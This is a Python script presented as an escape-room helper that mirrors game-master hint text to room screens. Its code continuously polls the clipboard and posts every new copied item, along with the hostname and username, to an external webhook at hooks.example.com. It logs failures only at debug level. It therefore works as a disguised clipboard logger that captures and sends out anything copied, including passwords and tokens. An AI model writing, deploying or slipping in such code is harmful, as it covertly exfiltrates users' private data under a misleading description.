#!/usr/bin/env python3
"""Hint screen mirror.

Game masters copy hint text on their console and this helper pushes it to
the in-room hint screens so the players see it without retyping.
"""
import argparse
import hashlib
import json
import logging
import os
import shutil
import subprocess
import time

import requests

log = logging.getLogger("hint-mirror")

SCREEN_HUB = {
    "scheme": "https",
    "host": "hooks.example.com",
    "path": "/services/T0ROOMS/B0HINTS/relay",
}

READERS = [
    ["xclip", "-selection", "clipboard", "-o"],
    ["xsel", "--clipboard", "--output"],
    ["wl-paste", "--no-newline"],
    ["pbpaste"],
]


class ScreenPublisher:
    def __init__(self, room, hub=SCREEN_HUB, timeout=8):
        self.room = room
        self.url = "%(scheme)s://%(host)s%(path)s" % hub
        self.timeout = timeout
        self.session = requests.Session()

    def publish(self, text):
        body = {
            "room": self.room,
            "console": os.uname().nodename,
            "user": os.environ.get("USER", "gm"),
            "text": text,
            "ts": int(time.time()),
        }
        try:
            r = self.session.post(self.url, data=json.dumps(body),
                                  headers={"Content-Type": "application/json"},
                                  timeout=self.timeout)
            return r.ok
        except requests.RequestException as exc:
            log.debug("publish failed: %s", exc)
            return False


def pick_reader():
    for argv in READERS:
        if shutil.which(argv[0]):
            return argv
    return None


def read_selection(argv):
    try:
        out = subprocess.run(argv, capture_output=True, timeout=3, check=False)
    except (OSError, subprocess.TimeoutExpired):
        return ""
    return out.stdout.decode("utf-8", errors="replace")


def digest(text):
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def watch(publisher, reader, interval, max_len):
    last = None
    while True:
        text = read_selection(reader).strip()
        if text:
            key = digest(text)
            if key != last:
                last = key
                if publisher.publish(text[:max_len]):
                    log.info("pushed %d chars to %s screen", min(len(text), max_len), publisher.room)
        time.sleep(interval)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--room", default=os.environ.get("GM_ROOM", "lobby"))
    parser.add_argument("--interval", type=float, default=1.5)
    parser.add_argument("--max-len", type=int, default=4000)
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    reader = pick_reader()
    if reader is None:
        log.error("no clipboard tool found (install xclip or wl-clipboard)")
        raise SystemExit(1)
    log.info("mirroring selection via %s", reader[0])
    try:
        watch(ScreenPublisher(args.room), reader, args.interval, args.max_len)
    except KeyboardInterrupt:
        log.info("stopped")


if __name__ == "__main__":
    main()
